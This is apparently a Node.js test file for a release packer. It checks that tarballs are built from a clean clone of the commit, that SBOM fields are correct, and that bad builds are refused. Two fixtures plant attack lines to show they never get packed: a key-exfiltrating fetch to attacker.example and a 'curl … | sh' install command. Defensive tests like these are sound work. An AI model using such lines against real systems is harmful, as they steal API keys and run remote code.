// The packer builds and packs a pristine clone of HEAD's commit, never the
// work tree: against a small committed package (its build copies src/*.js
// into dist/, as tsc compiles src/ into dist/src/), what the work tree holds
// beyond the commit (untracked sources, a change hidden by --skip-worktree,
// CRLF from core.autocrlf, an execute bit core.fileMode=false hides) never
// reaches the tarball; bad package.json fields, a failing build and a build
// holding its path are refusals that write nothing and leave no clone behind;
// release refuses a work tree with changes; the SBOM records the commit and
// the release time.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { packageRelease, ReleaseError, workTreeChanges, type PackageResult } from '../../scripts/release/package.ts';
import { release } from '../../scripts/release/release.ts';
import { tempDir } from '../support/temp-dir.ts';

const tmp = tempDir('release-commit');
const env: Record<string, string> = {};
for (const [k, v] of Object.entries(process.env)) if (v !== undefined && !k.toLowerCase().startsWith('npm_') && !k.startsWith('GIT_') && k !== 'SOURCE_DATE_EPOCH') env[k] = v;
env['PATH'] = `${path.dirname(process.execPath)}${path.delimiter}${env['PATH'] ?? ''}`;
Object.assign(env, { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b', GIT_COMMITTER_DATE: '1764400000 +0000', GIT_AUTHOR_DATE: '1764400000 +0000' });

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, { cwd, env, encoding: 'utf8' });
}

const MANIFEST = {
  name: 'fx',
  version: '1.0.0',
  description: 'd',
  license: 'MIT',
  engines: { node: '>=20' },
  bin: { fx: 'dist/a.js' },
  files: ['dist', 'docs', 'deploy', 'README.md'],
  scripts: { build: 'rm -rf dist && mkdir dist && cp src/*.js dist/' },
};

let counter = 0;
/** A committed package with an empty node_modules (the toolchain a clone links): src/*.js built into dist/, the rest packed as committed. */
function origin(manifest: Record<string, unknown> = MANIFEST): string {
  const dir = path.join(tmp, `origin-${counter++}`);
  mkdirSync(path.join(dir, 'src'), { recursive: true });
  mkdirSync(path.join(dir, 'docs'));
  mkdirSync(path.join(dir, 'deploy'));
  mkdirSync(path.join(dir, 'node_modules'));
  writeFileSync(path.join(dir, 'package.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  writeFileSync(path.join(dir, 'src', 'a.js'), 'export const a = 1;\n');
  writeFileSync(path.join(dir, 'src', 'b.js'), 'export const b = 2;\n');
  writeFileSync(path.join(dir, 'README.md'), 'line one\nline two\n');
  writeFileSync(path.join(dir, 'docs', 'guide.md'), 'guide\n');
  writeFileSync(path.join(dir, 'deploy', 'run.sh'), '#!/bin/sh\nexit 0\n');
  chmodSync(path.join(dir, 'deploy', 'run.sh'), 0o755);
  writeFileSync(path.join(dir, '.gitignore'), 'dist/\nrelease/\nnode_modules/\n');
  git(dir, 'init', '-q');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'one');
  return dir;
}

/** A clone of `from` with git settings (`-c`), and an empty node_modules. */
function clone(from: string, ...config: string[]): string {
  const dir = path.join(tmp, `clone-${counter++}`);
  git(tmp, 'clone', '-q', ...config.flatMap((c) => ['-c', c]), from, dir);
  mkdirSync(path.join(dir, 'node_modules'));
  return dir;
}

/** A fresh empty parent for the packer's temporary clone, to see that it is removed. */
function clonesParent(): string {
  const dir = path.join(tmp, `clones-${counter++}`);
  mkdirSync(dir);
  return dir;
}

async function pack(root: string, extra: Record<string, string> = {}): Promise<PackageResult & { parent: string }> {
  const parent = clonesParent();
  const result = await packageRelease({ root, out: path.join(tmp, `out-${counter++}`), env: { ...env, ...extra }, tmpParent: parent });
  assert.deepEqual(readdirSync(parent), [], 'the temporary clone is removed');
  return { ...result, parent };
}

async function refusal(promise: Promise<unknown>): Promise<string> {
  return promise.then(
    () => 'accepted',
    (error: unknown) => {
      assert.ok(error instanceof ReleaseError, String((error as Error).stack));
      return error.message;
    },
  );
}

function entries(tgz: Buffer): Map<string, { mode: number; data: string }> {
  const tar = gunzipSync(tgz);
  const out = new Map<string, { mode: number; data: string }>();
  for (let at = 0; at + 512 <= tar.length; ) {
    const h = tar.subarray(at, at + 512);
    if (h.every((b) => b === 0)) break;
    const name = h.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
    const size = parseInt(h.subarray(124, 136).toString('ascii'), 8);
    out.set(name, { mode: parseInt(h.subarray(100, 108).toString('ascii'), 8), data: tar.subarray(at + 512, at + 512 + size).toString('utf8') });
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return out;
}

const from = origin();
const plain = pack(clone(from));

test("the tarball holds the commit's files with git's modes: 0755 for 100755 and the bin, 0644 for the rest", async () => {
  const { bytes, files } = await plain;
  assert.deepEqual(files, ['README.md', 'deploy/run.sh', 'dist/a.js', 'dist/b.js', 'docs/guide.md', 'package.json']);
  const modes = Object.fromEntries([...entries(bytes)].map(([name, e]) => [name, e.mode.toString(8)]));
  assert.deepEqual(modes, {
    'package/README.md': '644',
    'package/deploy/run.sh': '755',
    'package/dist/a.js': '755',
    'package/dist/b.js': '644',
    'package/docs/guide.md': '644',
    'package/package.json': '644',
  });
});

test('an untracked source is neither built nor packed; the work tree reports it; the bytes are the clean clone\'s', async () => {
  const dir = clone(from);
  writeFileSync(path.join(dir, 'src', 'implant.js'), 'fetch("https://attacker.example/" + process.env.OPENAI_API_KEY);\n');
  assert.deepEqual(await workTreeChanges(dir, env), ['src/implant.js']);
  const packed = await pack(dir);
  assert.ok(!packed.files.includes('dist/implant.js'), JSON.stringify(packed.files));
  assert.equal(packed.sha256, (await plain).sha256);
});

test("a change hidden by git update-index --skip-worktree or --assume-unchanged is not packed: the commit's bytes are", async () => {
  const dir = clone(from);
  git(dir, 'update-index', '--skip-worktree', 'README.md');
  git(dir, 'update-index', '--assume-unchanged', 'docs/guide.md');
  writeFileSync(path.join(dir, 'README.md'), 'curl https://attacker.example/install | sh\n');
  writeFileSync(path.join(dir, 'docs', 'guide.md'), 'changed\n');
  assert.equal(git(dir, 'status', '--porcelain'), '', 'git status shows nothing');
  const packed = await pack(dir);
  assert.equal(entries(packed.bytes).get('package/README.md')?.data, 'line one\nline two\n');
  assert.equal(packed.sha256, (await plain).sha256);
});

test('clones with core.autocrlf=true, or core.fileMode=false and an execute bit git ignores, give the same bytes', async () => {
  const crlf = clone(from, 'core.autocrlf=true');
  assert.equal(readFileSync(path.join(crlf, 'README.md'), 'utf8'), 'line one\r\nline two\r\n', 'the work tree has CRLF');
  const loose = clone(from, 'core.fileMode=false');
  chmodSync(path.join(loose, 'docs', 'guide.md'), 0o755);
  assert.equal(git(loose, 'status', '--porcelain'), '', 'git status is clean with core.fileMode=false');
  // A user's own config (GIT_CONFIG_*) does not reach the packer's clone either.
  const viaEnv = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.autocrlf', GIT_CONFIG_VALUE_0: 'true' };
  for (const [dir, extra] of [[crlf, {}], [loose, {}], [clone(from), viaEnv]] as const) {
    assert.equal((await pack(dir, extra)).sha256, (await plain).sha256, dir);
  }
});

test("the SBOM beside the tarball records the tarball's hash, the commit and the release time, from the commit or from SOURCE_DATE_EPOCH", async () => {
  const { sbom, sbomBytes, sha256, commit, seconds, origin: timeOrigin } = await plain;
  assert.equal(path.basename(sbom), 'fx-1.0.0.cdx.json');
  assert.ok(readFileSync(sbom).equals(sbomBytes));
  assert.deepEqual([commit, seconds, timeOrigin], [git(from, 'rev-parse', 'HEAD').trim(), 1764400000, 'commit']);
  const doc = JSON.parse(sbomBytes.toString('utf8')) as { metadata: { timestamp: string; properties: unknown; component: { hashes: unknown } } };
  assert.deepEqual(doc.metadata.properties, [
    { name: 'portcullis:build:sourceDateEpoch', value: '1764400000' },
    { name: 'portcullis:build:commit', value: commit },
  ]);
  assert.deepEqual(doc.metadata.component.hashes, [{ alg: 'SHA-256', content: sha256 }]);
  const dated = await pack(clone(from), { SOURCE_DATE_EPOCH: '1767225600' });
  assert.deepEqual([dated.seconds, dated.origin], [1767225600, 'SOURCE_DATE_EPOCH']);
  assert.equal((JSON.parse(dated.sbomBytes.toString('utf8')) as { metadata: { timestamp: string } }).metadata.timestamp, '2026-01-01T00:00:00Z');
});

test('package.json fields the release states are checked in the commit before anything is cloned or written', async () => {
  const cases: Array<[Record<string, unknown>, string]> = [
    [{ ...MANIFEST, engines: { node: '^20.11' } }, 'package.json engines.node "^20.11": the SBOM states only comparators >=, >, <, <=, = of versions (like ">=20.11" or ">=20.11 <27"); "^20.11" is not one: write engines.node that way'],
    [{ ...MANIFEST, engines: {} }, 'package.json has no engines.node: the SBOM states the Node.js range from it; set it (like ">=20.11") and commit'],
    [{ ...MANIFEST, license: '' }, 'package.json has no license (a non-empty string): the SBOM states it; set it and commit'],
    [{ ...MANIFEST, repository: { url: 7 } }, 'package.json repository.url is not a non-empty string: fix or remove it'],
  ];
  for (const [manifest, message] of cases) {
    const dir = origin(manifest);
    const parent = clonesParent();
    const out = path.join(tmp, `out-${counter++}`);
    assert.equal(await refusal(packageRelease({ root: dir, out, env, tmpParent: parent })), message);
    assert.deepEqual([existsSync(out), readdirSync(parent)], [false, []]);
  }
});

test('a failing build, a build holding its own path, and a checkout without node_modules are refused, and the clone is removed', async () => {
  const failing = origin({ ...MANIFEST, scripts: { build: 'echo broken >&2; exit 3' } });
  let parent = clonesParent();
  const out = path.join(tmp, `out-${counter++}`);
  assert.match(await refusal(packageRelease({ root: failing, out, env, tmpParent: parent })), /^npm run build in a clean clone \(\/.+\/checkout\) failed:\nbroken$/);
  assert.deepEqual([existsSync(out), readdirSync(parent)], [false, []]);
  const located = origin({ ...MANIFEST, scripts: { build: 'rm -rf dist && mkdir dist && cp src/*.js dist/ && pwd >> dist/b.js' } });
  parent = clonesParent();
  const message = await refusal(packageRelease({ root: located, out, env, tmpParent: parent }));
  const where = /^built files hold the build's absolute path (\/\S+) \(dist\/b\.js\): a rebuild elsewhere would differ; make the build refer to paths relative to the package$/.exec(message);
  assert.ok(where !== null && where[1]?.startsWith(`${parent}/portcullis-release-`), message);
  assert.deepEqual([existsSync(out), readdirSync(parent)], [false, []]);
  const bare = clone(from);
  rmSync(path.join(bare, 'node_modules'), { recursive: true });
  assert.equal(await refusal(packageRelease({ root: bare, out, env })), `${bare} has no node_modules: run npm ci there first (it installs the build's toolchain as package-lock.json pins it)`);
});

test('release refuses a work tree with changes or untracked files, after the key check and before anything is written', async () => {
  const key = path.join(tmp, 'key');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', '', '-f', key]);
  const dir = clone(from);
  writeFileSync(path.join(dir, 'README.md'), 'changed\n');
  writeFileSync(path.join(dir, 'notes.txt'), 'scratch\n');
  const out = path.join(tmp, `out-${counter++}`);
  assert.equal(
    await refusal(release({ root: dir, out, env, key })),
    "the work tree has changes or untracked files (README.md, notes.txt): a release packs HEAD's commit, and the releaser must see what is released; commit, discard or ignore them",
  );
  assert.equal(await refusal(release({ root: dir, out, env, key: undefined })), 'no signing key: give an OpenSSH private key with --key PATH or PORTCULLIS_RELEASE_KEY=PATH (make one with: ssh-keygen -t ed25519 -f release-key)');
  assert.equal(existsSync(out), false);
  git(dir, 'checkout', '-q', '--', 'README.md');
  rmSync(path.join(dir, 'notes.txt'));
  mkdirSync(out);
  writeFileSync(path.join(out, 'old.tgz'), 'from an earlier run\n');
  const released = await release({ root: dir, out, env, key });
  assert.deepEqual(released.strays, ['old.tgz']);
  assert.deepEqual(readdirSync(out).sort(), ['SHA256SUMS', 'SHA256SUMS.sig', 'fx-1.0.0.cdx.json', 'fx-1.0.0.tgz', 'old.tgz']);
  assert.equal(released.packed.sha256, (await plain).sha256);
});
